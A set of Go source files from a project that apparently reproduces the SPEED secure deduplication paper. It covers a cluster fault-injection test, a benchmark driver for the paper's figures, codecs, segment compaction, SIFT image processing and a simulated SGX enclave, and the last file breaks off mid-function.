// TestClusterRuntimeFaultInjection is the headline guarantee: a
// Runtime doing batched Executes over a 3-node ring keeps succeeding —
// zero failed calls — while one member is killed mid-run, and the hit
// rate recovers once the router fails over to the replicas.
func TestClusterRuntimeFaultInjection(t *testing.T) {
	env := newTestCluster(t, 3, Config{
		Replicas:      2,
		FailThreshold: 2,
		ProbeInterval: 25 * time.Millisecond,
	})
	rt, err := dedup.NewRuntime(dedup.Config{
		Enclave: env.app,
		Client:  env.client,
		Logf:    func(string, ...any) {},
	})
	if err != nil {
		t.Fatalf("NewRuntime: %v", err)
	}
	defer rt.Close()
	rt.Registry().RegisterLibrary("clusterlib", "1.0", []byte("cluster lib"))
	id, err := rt.Resolve(dedup.FuncDesc{Library: "clusterlib", Version: "1.0", Signature: "f(x)"})
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	compute := func(in []byte) ([]byte, error) {
		out := make([]byte, len(in))
		for i, b := range in {
			out[i] = b ^ 0x5A
		}
		return out, nil
	}
	inputs := make([][]byte, 32)
	for i := range inputs {
		inputs[i] = []byte(fmt.Sprintf("cluster-input-%d", i))
	}
	pass := func() {
		t.Helper()
		results, err := rt.ExecuteBatch(id, inputs, compute)
		if err != nil {
			t.Fatalf("ExecuteBatch: %v", err)
		}
		for i, r := range results {
			if r.Err != nil {
				t.Fatalf("item %d failed: %v", i, r.Err)
			}
		}
	}

	pass() // warm the ring
	before := rt.Stats()
	pass()
	warm := rt.Stats()
	if reused := warm.Reused - before.Reused; reused != int64(len(inputs)) {
		t.Fatalf("pre-kill pass reused %d/%d", reused, len(inputs))
	}

	env.nodes[0].kill(t)
	for i := 0; i < 5; i++ {
		pass() // mid-outage passes: zero failures required
	}
	mid := rt.Stats()
	pass()
	after := rt.Stats()
	if reused := after.Reused - mid.Reused; reused < int64(len(inputs)*9/10) {
		t.Errorf("post-kill hit rate did not recover: reused %d/%d", reused, len(inputs))
	}
}
