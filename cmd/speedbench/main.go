// Command speedbench regenerates the paper's evaluation tables and
// figures over the simulated-SGX SPEED implementation.
//
// Usage:
//
//	speedbench -exp all            # everything (minutes)
//	speedbench -exp table1         # Table I crypto operation latency
//	speedbench -exp fig5           # fig5a through fig5d
//	speedbench -exp fig5a|fig5b|fig5c|fig5d
//	speedbench -exp fig6
//	speedbench -exp ablations
//	speedbench -exp resilience     # store-outage fault injection
//	speedbench -exp concurrency    # mux throughput: workers x batch size
//	speedbench -exp cluster        # 3-node ring, one member killed mid-run
//	speedbench -exp persist        # log engine: beyond-RAM load, kill -9, recovery
//	speedbench -exp chunk          # chunked dedup vs whole-result on near-duplicates
//	speedbench -quick              # reduced sizes/trials for a fast pass
//
// With -metrics-out FILE, the run records phase-level telemetry and
// writes a JSON report (per-phase p50/p95/p99 latencies, outcome
// counters, and the full registry snapshot) to FILE, e.g.:
//
//	speedbench -exp fig5 -metrics-out BENCH_fig5.json
package main

import (
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"strings"
	"time"

	"speed/internal/bench"
	"speed/internal/telemetry"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "speedbench:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("speedbench", flag.ContinueOnError)
	exp := fs.String("exp", "all", "experiment: all, table1, fig5 (=fig5a-d), fig5a, fig5b, fig5c, fig5d, fig6, ablations, effort, resilience, concurrency, cluster, persist, chunk")
	quick := fs.Bool("quick", false, "reduced sizes and trials")
	trials := fs.Int("trials", 0, "override trial count (0 = default)")
	storeTimeout := fs.Duration("store-timeout", 200*time.Millisecond, "resilience: per-request store deadline")
	storeRetries := fs.Int("store-retries", 2, "resilience: max retries per store request (negative disables)")
	metricsOut := fs.String("metrics-out", "", "write a JSON telemetry report (per-phase p50/p95/p99, counters) to this file after the run")
	storeAddr := fs.String("store-addr", "", "smoke: wire address of an externally-running resultstore")
	storeMeas := fs.String("store-measurement", "", "smoke: hex store enclave measurement printed by resultstore at startup")
	machineSeed := fs.String("machine-seed", "", "smoke: must match the store's -machine-seed (same-platform attestation)")
	smokeCalls := fs.Int("smoke-calls", 0, "smoke: Execute calls to issue (0 = default)")
	if err := fs.Parse(args); err != nil {
		return err
	}

	var reg *telemetry.Registry
	if *metricsOut != "" {
		reg = telemetry.NewRegistry()
		bench.SetTelemetry(reg)
		defer bench.SetTelemetry(nil)
	}

	t := 5
	if *quick {
		t = 2
	}
	if *trials > 0 {
		t = *trials
	}

	experiments := map[string]func() error{
		"table1": func() error { return runTable1(t) },
		"fig5a":  func() error { return runFig5a(*quick, t) },
		"fig5b":  func() error { return runFig5b(*quick, t) },
		"fig5c":  func() error { return runFig5c(*quick, t) },
		"fig5d":  func() error { return runFig5d(*quick, t) },
		"fig6":   func() error { return runFig6(*quick, t) },
		"ablations": func() error {
			return runAblations(*quick, t)
		},
		"effort": runEffort,
		"resilience": func() error {
			return runResilience(*quick, *storeTimeout, *storeRetries)
		},
		"concurrency": func() error {
			return runConcurrency(*quick)
		},
		"cluster": func() error {
			return runCluster(*quick)
		},
		"persist": func() error {
			return runPersist(*quick)
		},
		"chunk": func() error {
			return runChunk(*quick)
		},
		// smoke needs an external resultstore, so it is not part of
		// "all" (see -store-addr).
		"smoke": func() error {
			return runSmoke(*storeAddr, *storeMeas, *machineSeed, *smokeCalls)
		},
	}
	runNamed := func(names ...string) error {
		for i, name := range names {
			if err := experiments[name](); err != nil {
				return fmt.Errorf("%s: %w", name, err)
			}
			if i < len(names)-1 {
				fmt.Println()
			}
		}
		return nil
	}
	experiments["fig5"] = func() error {
		return runNamed("fig5a", "fig5b", "fig5c", "fig5d")
	}

	var err error
	if *exp == "all" {
		err = runNamed("table1", "fig5a", "fig5b", "fig5c", "fig5d", "fig6", "ablations", "effort", "resilience", "concurrency", "cluster", "persist", "chunk")
	} else if fn, ok := experiments[*exp]; ok {
		err = fn()
	} else {
		return fmt.Errorf("unknown experiment %q", *exp)
	}
	if err != nil {
		return err
	}
	if *metricsOut != "" {
		if err := writeMetricsReport(*metricsOut, *exp, reg); err != nil {
			return fmt.Errorf("write metrics report: %w", err)
		}
		fmt.Printf("speedbench: wrote telemetry report to %s\n", *metricsOut)
	}
	return nil
}

// phaseQuantiles is one row of the report's per-phase latency summary.
type phaseQuantiles struct {
	Phase      string  `json:"phase"`
	Count      int64   `json:"count"`
	P50Seconds float64 `json:"p50_seconds"`
	P95Seconds float64 `json:"p95_seconds"`
	P99Seconds float64 `json:"p99_seconds"`
}

// metricsReport is the -metrics-out JSON document.
type metricsReport struct {
	Experiment string           `json:"experiment"`
	Calls      int64            `json:"calls"`
	Reused     int64            `json:"reused"`
	Computed   int64            `json:"computed"`
	HitRate    float64          `json:"hit_rate"`
	Phases     []phaseQuantiles `json:"phases"`
	Execute    []phaseQuantiles `json:"execute_by_outcome"`
	// Concurrency holds the mux-throughput sweep when the concurrency
	// experiment ran.
	Concurrency []bench.ConcurrencyRow `json:"concurrency,omitempty"`
	// Cluster holds the multi-node fault-injection phases when the
	// cluster experiment ran.
	Cluster []bench.ClusterPhase `json:"cluster,omitempty"`
	// Persist holds the log-engine crash-recovery measurements when the
	// persist experiment ran.
	Persist *bench.PersistResult `json:"persist,omitempty"`
	// Chunk holds the chunked-dedup overlap sweep when the chunk
	// experiment ran.
	Chunk    []bench.ChunkRow   `json:"chunk,omitempty"`
	Snapshot telemetry.Snapshot `json:"snapshot"`
}

// concurrencyRows / clusterPhases carry the last sweep of their
// experiment into the metrics report.
var concurrencyRows []bench.ConcurrencyRow
var clusterPhases []bench.ClusterPhase
var persistResult *bench.PersistResult
var chunkRows []bench.ChunkRow

// labelValue extracts one label's value from a rendered metric name
// like `speed_execute_phase_seconds{app="x",phase="tag"}`.
func labelValue(full, label string) string {
	marker := label + `="`
	i := strings.Index(full, marker)
	if i < 0 {
		return full
	}
	rest := full[i+len(marker):]
	if j := strings.IndexByte(rest, '"'); j >= 0 {
		return rest[:j]
	}
	return rest
}

func quantileRows(snap telemetry.Snapshot, family, label string) []phaseQuantiles {
	var rows []phaseQuantiles
	for _, h := range snap.HistogramsByFamily(family) {
		rows = append(rows, phaseQuantiles{
			Phase:      labelValue(h.Name, label),
			Count:      h.Count,
			P50Seconds: h.P50,
			P95Seconds: h.P95,
			P99Seconds: h.P99,
		})
	}
	return rows
}

func writeMetricsReport(path, experiment string, reg *telemetry.Registry) error {
	snap := reg.Snapshot()
	calls := snap.Counter(`speed_runtime_calls_total{app="bench-app"}`)
	reused := snap.Counter(`speed_runtime_reused_total{app="bench-app"}`)
	report := metricsReport{
		Experiment:  experiment,
		Calls:       calls,
		Reused:      reused,
		Computed:    snap.Counter(`speed_runtime_computed_total{app="bench-app"}`),
		Phases:      quantileRows(snap, "speed_execute_phase_seconds", "phase"),
		Execute:     quantileRows(snap, "speed_execute_seconds", "outcome"),
		Concurrency: concurrencyRows,
		Cluster:     clusterPhases,
		Persist:     persistResult,
		Chunk:       chunkRows,
		Snapshot:    snap,
	}
	if calls > 0 {
		report.HitRate = float64(reused) / float64(calls)
	}
	data, err := json.MarshalIndent(report, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}

func runTable1(trials int) error {
	rows, err := bench.Table1(bench.DefaultTable1Sizes, trials*4)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderTable1(rows))
	return nil
}

func runFig5a(quick bool, trials int) error {
	sizes := []int{64, 128, 192, 256}
	if quick {
		sizes = []int{64, 128}
	}
	rows, err := bench.Fig5SIFT(sizes, trials)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderFig5("(a) feature extraction via SIFT", rows))
	return nil
}

func runFig5b(quick bool, trials int) error {
	sizes := []int{256 << 10, 512 << 10, 1 << 20, 2 << 20}
	if quick {
		sizes = []int{128 << 10, 512 << 10}
	}
	rows, err := bench.Fig5Compress(sizes, trials)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderFig5("(b) data compression via LZ77+Huffman", rows))
	return nil
}

func runFig5c(quick bool, trials int) error {
	sizes := []int{2 << 10, 8 << 10, 32 << 10, 128 << 10}
	rules := 3700
	if quick {
		sizes = []int{2 << 10, 16 << 10}
		rules = 800
	}
	rows, err := bench.Fig5Pattern(sizes, rules, trials)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderFig5(fmt.Sprintf("(c) pattern matching, %d rules, per-rule engine", rules), rows))
	fmt.Println()
	pf, err := bench.Fig5PatternPrefilter(sizes, rules, trials)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderFig5(fmt.Sprintf("(c') pattern matching, %d rules, AC-prefilter engine (ablation)", rules), pf))
	return nil
}

func runFig5d(quick bool, trials int) error {
	counts := []int{300, 1000, 3000, 10000}
	if quick {
		counts = []int{100, 500}
	}
	rows, err := bench.Fig5BoW(counts, trials)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderFig5("(d) BoW computation via MapReduce", rows))
	return nil
}

func runFig6(quick bool, trials int) error {
	sizes := bench.DefaultFig6Sizes
	if quick {
		sizes = []int{1 << 10, 100 << 10}
	}
	withSGX, err := bench.Fig6(sizes, true, trials)
	if err != nil {
		return err
	}
	withoutSGX, err := bench.Fig6(sizes, false, trials)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderFig6(withSGX, withoutSGX))
	return nil
}

func runAblations(quick bool, trials int) error {
	sizes := bench.DefaultTable1Sizes
	if quick {
		sizes = []int{1 << 10, 100 << 10}
	}
	scheme, err := bench.AblationScheme(sizes, trials*4)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderAblationScheme(scheme))
	fmt.Println()

	asyncRows, err := bench.AblationAsyncPut(sizes, trials*4)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderAblationAsyncPut(asyncRows))
	fmt.Println()

	counts := []int{1000, 5000, 20000}
	if quick {
		counts = []int{500, 4800}
	}
	blob, err := bench.AblationBlobPlacement(counts, 8<<10)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderAblationBlobPlacement(blob, 8<<10))
	fmt.Println()

	oblCounts := []int{100, 1000, 10000}
	if quick {
		oblCounts = []int{100, 2000}
	}
	obl, err := bench.AblationOblivious(oblCounts, trials)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderAblationOblivious(obl))
	fmt.Println()

	calls := 300
	if quick {
		calls = 80
	}
	adaptive, err := bench.AblationAdaptive(calls, trials)
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderAblationAdaptive(adaptive, calls))
	return nil
}

func runResilience(quick bool, timeout time.Duration, retries int) error {
	calls := 60
	if quick {
		calls = 20
	}
	phases, err := bench.Resilience(bench.ResilienceConfig{
		CallsPerPhase:  calls,
		RequestTimeout: timeout,
		MaxRetries:     retries,
	})
	if err != nil {
		return err
	}
	fmt.Print(bench.RenderResilience(phases))
	return nil
}

func runConcurrency(quick bool) error {
	tagsPerWorker := 2048
	if quick {
		tagsPerWorker = 256
	}
	rows, err := bench.Concurrency(nil, nil, tagsPerWorker, 1<<10, 0)
	if err != nil {
		return err
	}
	concurrencyRows = rows
	fmt.Print(bench.RenderConcurrency(rows))
	return nil
}

func runCluster(quick bool) error {
	cfg := bench.ClusterConfig{Nodes: 3, Replicas: 2, Passes: 5, Inputs: 32}
	if quick {
		cfg.Passes = 3
		cfg.Inputs = 16
	}
	phases, err := bench.Cluster(cfg)
	if err != nil {
		return err
	}
	clusterPhases = phases
	fmt.Print(bench.RenderCluster(cfg.Nodes, cfg.Replicas, phases))
	return nil
}

func runPersist(quick bool) error {
	dir, err := os.MkdirTemp("", "speed-persist-*")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	cfg := bench.PersistConfig{Dir: dir}
	if quick {
		cfg.Records = 256
		cfg.MemtableBytes = 32 << 10
		cfg.CacheBytes = 32 << 10
	}
	res, err := bench.Persist(cfg)
	if res != nil {
		persistResult = res
		fmt.Print(bench.RenderPersist(res))
	}
	return err
}

// runChunk sweeps near-duplicate workloads at controlled overlap
// ratios, comparing whole-result dedup against FastCDC chunking on
// stored bytes, transferred bytes, and latency. The run fails unless
// chunking saves at least 30% on both axes at 50% overlap.
func runChunk(quick bool) error {
	cfg := bench.ChunkConfig{}
	if quick {
		// Keep full-size documents: the savings margin depends on doc
		// size relative to the ~8 KiB average chunk (boundary resync
		// loss is per-document, not per-byte). Cut doc count and the
		// overlap sweep instead.
		cfg.Docs = 6
		cfg.Overlaps = []float64{0, 0.5}
	}
	rows, err := bench.Chunked(cfg)
	if len(rows) > 0 {
		chunkRows = rows
		fmt.Print(bench.RenderChunked(rows))
	}
	return err
}

// runSmoke exercises a live resultstore deployment end to end with
// every call traced, printing the distributed trace IDs so the caller
// (CI's deployment smoke job) can assert they assemble on the store's
// /debug/trace?id= endpoint.
func runSmoke(storeAddr, storeMeasHex, machineSeed string, calls int) error {
	if storeAddr == "" {
		return fmt.Errorf("smoke requires -store-addr (a running resultstore)")
	}
	cfg := bench.SmokeConfig{StoreAddr: storeAddr, MachineSeed: machineSeed, Calls: calls}
	meas, err := hex.DecodeString(strings.TrimSpace(storeMeasHex))
	if err != nil || len(meas) != len(cfg.StoreMeasurement) {
		return fmt.Errorf("smoke requires -store-measurement (%d hex bytes, printed by resultstore at startup)",
			len(cfg.StoreMeasurement))
	}
	copy(cfg.StoreMeasurement[:], meas)
	res, err := bench.Smoke(cfg)
	if err != nil {
		return err
	}
	fmt.Printf("smoke: store=%s reused=%d computed=%d coalesced=%d traces=%d\n",
		storeAddr, res.Reused, res.Computed, res.Coalesced, len(res.TraceIDs))
	for _, id := range res.TraceIDs {
		fmt.Printf("TRACE_ID=%s\n", id)
	}
	if res.Reused == 0 {
		return fmt.Errorf("smoke: no call was served from the store (dedup broken?)")
	}
	if len(res.TraceIDs) == 0 {
		return fmt.Errorf("smoke: no trace was sampled")
	}
	return nil
}

func runEffort() error {
	fmt.Println(`Developer effort (Section V-B / Fig. 4): lines of code to
deduplicate one function call with the speed.Deduplicable API.

  Case                 Wrapper creation                          Call site
  -------------------  ----------------------------------------  -----------------
  SIFT features        d, _ := speed.NewDeduplicable(app, ...)    kps, _ := d.Call(img)
  zlib-style deflate   d, _ := speed.NewDeduplicable(app, ...)    out, _ := d.Call(text)
  pattern matching     d, _ := speed.NewDeduplicable(app, ...)    ids, _ := d.Call(pkts)
  BoW (MapReduce)      d, _ := speed.NewDeduplicable(app, ...)    bow, _ := d.Call(docs)

2 lines of code per deduplicated function call, matching the paper.
See examples/ for complete runnable programs.`)
	return nil
}
