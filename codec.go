package speed

import (
	"bytes"
	"encoding/gob"
	"encoding/json"
	"fmt"
)

// Codec converts a function's input or output between its Go type and
// the byte representation used for tagging and result encryption. This
// is the paper's "uniform serialization interface": DedupRuntime and
// ResultStore are function-agnostic, and supporting a new function only
// requires associating it with a proper parser from existing ones or a
// customized one (Section IV-B).
type Codec[T any] interface {
	// Encode serialises a value deterministically. Determinism
	// matters: the encoding feeds the computation tag, so two equal
	// inputs must produce identical bytes.
	Encode(v T) ([]byte, error)
	// Decode parses a value produced by Encode.
	Decode(b []byte) (T, error)
}

// BytesCodec is the identity codec for []byte values.
type BytesCodec struct{}

var _ Codec[[]byte] = BytesCodec{}

// Encode implements Codec.
func (BytesCodec) Encode(v []byte) ([]byte, error) { return v, nil }

// Decode implements Codec.
func (BytesCodec) Decode(b []byte) ([]byte, error) { return b, nil }

// StringCodec converts strings.
type StringCodec struct{}

var _ Codec[string] = StringCodec{}

// Encode implements Codec.
func (StringCodec) Encode(v string) ([]byte, error) { return []byte(v), nil }

// Decode implements Codec.
func (StringCodec) Decode(b []byte) (string, error) { return string(b), nil }

// GobCodec serialises any gob-encodable type. Gob encoding of a given
// value is deterministic for a fixed type (struct fields are emitted in
// order), making it suitable for tagging; note that maps, whose
// iteration order is randomized, must be avoided in inputs.
type GobCodec[T any] struct{}

// Encode implements Codec.
func (GobCodec[T]) Encode(v T) ([]byte, error) {
	var buf bytes.Buffer
	if err := gob.NewEncoder(&buf).Encode(v); err != nil {
		return nil, fmt.Errorf("speed: gob encode: %w", err)
	}
	return buf.Bytes(), nil
}

// Decode implements Codec.
func (GobCodec[T]) Decode(b []byte) (T, error) {
	var v T
	if err := gob.NewDecoder(bytes.NewReader(b)).Decode(&v); err != nil {
		return v, fmt.Errorf("speed: gob decode: %w", err)
	}
	return v, nil
}

// JSONCodec serialises any JSON-encodable type. encoding/json sorts map
// keys, so JSON is safe for map-bearing inputs where gob is not.
type JSONCodec[T any] struct{}

// Encode implements Codec.
func (JSONCodec[T]) Encode(v T) ([]byte, error) {
	b, err := json.Marshal(v)
	if err != nil {
		return nil, fmt.Errorf("speed: json encode: %w", err)
	}
	return b, nil
}

// Decode implements Codec.
func (JSONCodec[T]) Decode(b []byte) (T, error) {
	var v T
	if err := json.Unmarshal(b, &v); err != nil {
		return v, fmt.Errorf("speed: json decode: %w", err)
	}
	return v, nil
}
