// Package a verifies //speedlint:ignore suppression: the mixed access
// below is deliberate and annotated, so the suite must stay quiet.
package a

import "sync/atomic"

var hits int64

func inc() {
	atomic.AddInt64(&hits, 1)
}

// read is called only after all writers have stopped.
//
//speedlint:ignore atomicmix read-after-quiesce snapshot, no concurrent writers
func read() int64 { return hits }
