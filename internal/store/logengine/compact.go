package logengine

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"

	"speed/internal/mle"
	storeengine "speed/internal/store/engine"
)

// Compaction bounds read amplification and reclaims space: point
// lookups probe segments newest-first, so many small flush segments
// mean many sparse-index probes per miss, and shadowed versions plus
// tombstones occupy disk forever. The compactor merges every segment
// into one, keeping only the newest version of each tag and dropping
// tombstones entirely (the output is the oldest segment, so there is
// nothing older left to shadow).
//
// Crash safety follows the same manifest discipline as a flush: the
// merged segment is written and fsynced first, the directory synced,
// then the manifest atomically swaps the old list for the new one,
// and only after that swap are the old files deleted. A crash before
// the swap leaves an orphan output (deleted at recovery); a crash
// after it leaves orphan inputs (deleted at recovery). At no point is
// the manifest's segment set incomplete.

// compactLocked merges all segments into one. Caller holds mu. A
// no-op with fewer than two segments.
func (e *Engine) compactLocked() error {
	if e.closed {
		return storeengine.ErrClosed
	}
	if len(e.segments) < 2 {
		return nil
	}

	// Merge via cursors, newest wins. Records are re-used sealed as-is
	// — compaction moves ciphertext and unseals only records with
	// pending touch-overlay popularity to bake.
	var merged []segRecord
	var baked []mle.Tag
	cursors := make([]*cursor, len(e.segments))
	for i, s := range e.segments {
		cursors[i] = s.newCursor()
	}
	for {
		var (
			best    [32]byte
			haveAny bool
		)
		for _, c := range cursors {
			if !c.valid {
				continue
			}
			if !haveAny || bytes.Compare(c.tag[:], best[:]) < 0 {
				best, haveAny = c.tag, true
			}
		}
		if !haveAny {
			break
		}
		resolved := false
		var winner segRecord
		for i := len(cursors) - 1; i >= 0; i-- { // newest first
			c := cursors[i]
			if c.valid && c.tag == best {
				if !resolved {
					winner = segRecord{tag: c.tag, dead: c.dead, blob: c.blob, sealed: c.sealed}
					resolved = true
				}
				c.next()
			}
		}
		if winner.dead {
			continue // tombstone at the bottom level: drop
		}
		// Bake touch-overlay popularity into the rewritten record so hit
		// counts accumulated since the record last hit disk become part
		// of its durable copy. Only touched tags pay the unseal+reseal;
		// everything else still moves as ciphertext.
		if tr, ok := e.touched[winner.tag]; ok {
			rec, uerr := unsealRecord(e.cfg.Enclave, winner.sealed)
			if uerr == nil {
				if tr.hits > rec.Hits {
					rec.Hits = tr.hits
				}
				if tr.last.After(rec.LastTouch) {
					rec.LastTouch = tr.last
				}
				if sealed, serr := sealRecord(e.cfg.Enclave, rec); serr == nil {
					winner.sealed = sealed
					baked = append(baked, winner.tag)
				}
			}
		}
		merged = append(merged, winner)
	}

	id := e.nextSegID
	name := segmentName(id)
	path := filepath.Join(e.cfg.Dir, name)
	if err := writeSegment(path, merged); err != nil {
		return err
	}
	if err := syncDir(e.cfg.Dir); err != nil {
		return err
	}

	if e.compactHook != nil {
		e.compactHook()
	}

	seg, _, err := openSegment(path, id)
	if err != nil {
		return err
	}
	old := e.segments
	if err := writeManifest(e.cfg.Dir, []string{name}); err != nil {
		if cerr := seg.close(); cerr != nil {
			e.cfg.Logf("logengine: close orphan segment: %v", cerr)
		}
		os.Remove(path)
		return fmt.Errorf("logengine: commit compaction: %w", err)
	}
	e.segments = []*segment{seg}
	e.nextSegID = id + 1
	e.st.Compactions++
	// The baked popularity is durable in the new segment; the overlay
	// entries (and any WAL touch frames, which replay idempotently under
	// the overlay's max semantics) are no longer needed.
	for _, tag := range baked {
		e.dropTouch(tag)
	}
	for _, s := range old {
		if cerr := s.close(); cerr != nil {
			e.cfg.Logf("logengine: close compacted segment %s: %v", filepath.Base(s.path), cerr)
		}
		if err := os.Remove(s.path); err != nil {
			// Recovery will treat it as an orphan; just note it.
			e.cfg.Logf("logengine: remove compacted segment %s: %v", filepath.Base(s.path), err)
		}
	}
	e.cfg.Logf("logengine: compacted %d segments into %s (%d live records)", len(old), name, len(merged))
	return nil
}
