// Package sift is a from-scratch implementation of the SIFT
// (Scale-Invariant Feature Transform) keypoint detector and descriptor
// of Lowe (IJCV 2004), standing in for the libsiftpp library used by
// Case 1 of the paper's evaluation. The pipeline is the classic one:
// Gaussian scale-space pyramid, difference-of-Gaussians extrema
// detection with contrast and edge-response filtering, orientation
// assignment from gradient histograms, and 128-dimensional descriptors.
package sift

import (
	"encoding/binary"
	"errors"
	"fmt"
	"math"
)

// Gray is a grayscale image with float32 pixels in [0, 1].
type Gray struct {
	// W and H are the image dimensions in pixels.
	W, H int
	// Pix is the row-major pixel buffer, len W*H.
	Pix []float32
}

// NewGray allocates a zeroed W×H image.
func NewGray(w, h int) *Gray {
	return &Gray{W: w, H: h, Pix: make([]float32, w*h)}
}

// At returns the pixel at (x, y), clamping coordinates to the image
// borders (replicate padding), which is the boundary handling used
// throughout the pipeline.
func (g *Gray) At(x, y int) float32 {
	if x < 0 {
		x = 0
	} else if x >= g.W {
		x = g.W - 1
	}
	if y < 0 {
		y = 0
	} else if y >= g.H {
		y = g.H - 1
	}
	return g.Pix[y*g.W+x]
}

// Set writes the pixel at (x, y); out-of-range coordinates are ignored.
func (g *Gray) Set(x, y int, v float32) {
	if x < 0 || x >= g.W || y < 0 || y >= g.H {
		return
	}
	g.Pix[y*g.W+x] = v
}

// Clone deep-copies the image.
func (g *Gray) Clone() *Gray {
	out := NewGray(g.W, g.H)
	copy(out.Pix, g.Pix)
	return out
}

// Downsample halves the image by taking every second pixel, the
// standard octave step.
func (g *Gray) Downsample() *Gray {
	w, h := g.W/2, g.H/2
	if w < 1 {
		w = 1
	}
	if h < 1 {
		h = 1
	}
	out := NewGray(w, h)
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			out.Pix[y*w+x] = g.At(2*x, 2*y)
		}
	}
	return out
}

// Sub returns the pixel-wise difference a-b of two same-sized images.
func Sub(a, b *Gray) (*Gray, error) {
	if a.W != b.W || a.H != b.H {
		return nil, fmt.Errorf("sift: size mismatch %dx%d vs %dx%d", a.W, a.H, b.W, b.H)
	}
	out := NewGray(a.W, a.H)
	for i := range out.Pix {
		out.Pix[i] = a.Pix[i] - b.Pix[i]
	}
	return out, nil
}

// ErrMalformedImage is returned when decoding invalid image bytes.
var ErrMalformedImage = errors.New("sift: malformed image encoding")

// EncodeGray serialises an image into a deterministic binary form
// (width, height, then pixels as IEEE-754 bits), suitable for feeding
// the computation tag.
func EncodeGray(g *Gray) []byte {
	buf := make([]byte, 8+4*len(g.Pix))
	binary.BigEndian.PutUint32(buf[0:], uint32(g.W))
	binary.BigEndian.PutUint32(buf[4:], uint32(g.H))
	for i, p := range g.Pix {
		binary.BigEndian.PutUint32(buf[8+4*i:], math.Float32bits(p))
	}
	return buf
}

// DecodeGray parses the form produced by EncodeGray.
func DecodeGray(b []byte) (*Gray, error) {
	if len(b) < 8 {
		return nil, ErrMalformedImage
	}
	w := int(binary.BigEndian.Uint32(b[0:]))
	h := int(binary.BigEndian.Uint32(b[4:]))
	if w <= 0 || h <= 0 || w > 1<<20 || h > 1<<20 {
		return nil, ErrMalformedImage
	}
	if len(b) != 8+4*w*h {
		return nil, ErrMalformedImage
	}
	g := NewGray(w, h)
	for i := range g.Pix {
		g.Pix[i] = math.Float32frombits(binary.BigEndian.Uint32(b[8+4*i:]))
	}
	return g, nil
}
