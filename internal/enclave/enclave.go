// Package enclave provides a software simulation of an Intel SGX-like
// trusted execution environment.
//
// No SGX hardware is available in this reproduction environment, so the
// package models the three properties of SGX that SPEED's design and
// evaluation depend on:
//
//  1. a trust boundary with a code measurement (MRENCLAVE analogue) and a
//     platform-bound sealing/attestation key hierarchy,
//  2. a fixed per-transition cost for every ECALL and OCALL (the control
//     switches whose overhead dominates Fig. 6 of the paper at small
//     result sizes), and
//  3. a limited Enclave Page Cache (EPC): 128 MB total, ~90 MB usable,
//     with a paging penalty for memory used beyond the usable budget.
//
// Costs are simulated by spinning for a calibrated duration, so wall-clock
// benchmarks over the simulator reproduce the relative shapes of the
// paper's SGX-vs-native measurements. Setting Config.SimulateCosts to
// false turns the simulator into a zero-overhead pass-through, which is
// how the "without SGX" baselines of Fig. 6 are produced.
package enclave

import (
	"crypto/ecdsa"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"errors"
	"fmt"
	"sync"
	"time"
)

// Default memory geometry, matching the experimental setup in the paper
// (Section V-A: "the enclave memory is set to the maximum 128MB (90MB
// usable)").
const (
	DefaultEPCBytes       = 128 << 20
	DefaultEPCUsableBytes = 90 << 20
	pageSize              = 4096
)

// Default transition cost. Published measurements of SGX enclave
// transitions put a round trip at roughly 8,000-14,000 cycles plus SDK
// marshalling overhead; on the paper's 2.8 GHz Xeon that is on the order
// of 3-10 microseconds each way.
const DefaultTransitionCost = 4 * time.Microsecond

// DefaultPagingCost is the simulated cost of evicting and reloading one
// 4 KB EPC page (encryption + integrity check on the paging path).
const DefaultPagingCost = 7 * time.Microsecond

var (
	// ErrOutOfMemory is returned by Alloc when the requested allocation
	// would exceed the total EPC of the platform.
	ErrOutOfMemory = errors.New("enclave: out of EPC memory")
	// ErrDestroyed is returned when operating on a destroyed enclave.
	ErrDestroyed = errors.New("enclave: enclave destroyed")
)

// Config controls the behaviour of a simulated platform.
type Config struct {
	// EPCBytes is the total protected memory available to all enclaves
	// on the platform. Defaults to 128 MB.
	EPCBytes int64
	// EPCUsableBytes is the amount of EPC usable before the simulator
	// starts charging paging penalties. Defaults to 90 MB.
	EPCUsableBytes int64
	// TransitionCost is the simulated one-way cost of crossing the
	// enclave boundary (half of an ECALL or OCALL round trip is charged
	// on entry and half on exit).
	TransitionCost time.Duration
	// PagingCost is the simulated cost per 4 KB page touched beyond the
	// usable EPC budget.
	PagingCost time.Duration
	// SimulateCosts enables wall-clock simulation of transition and
	// paging costs. When false the platform tracks metrics but spends
	// no time, modelling execution outside SGX.
	SimulateCosts bool
	// PlatformSeed, when non-empty, derives the platform key
	// deterministically instead of randomly. This models the fused
	// per-machine key of real SGX hardware: two Platform values with
	// the same seed behave as the same physical machine, so sealed
	// data survives process restarts. Leave empty for an ephemeral
	// platform.
	PlatformSeed []byte
}

func (c Config) withDefaults() Config {
	if c.EPCBytes == 0 {
		c.EPCBytes = DefaultEPCBytes
	}
	if c.EPCUsableBytes == 0 {
		c.EPCUsableBytes = DefaultEPCUsableBytes
	}
	if c.TransitionCost == 0 {
		c.TransitionCost = DefaultTransitionCost
	}
	if c.PagingCost == 0 {
		c.PagingCost = DefaultPagingCost
	}
	return c
}

// Measurement is the SHA-256 digest of an enclave's initial code and
// data, analogous to SGX's MRENCLAVE.
type Measurement [32]byte

// String renders the measurement as a short hex prefix for logs.
func (m Measurement) String() string {
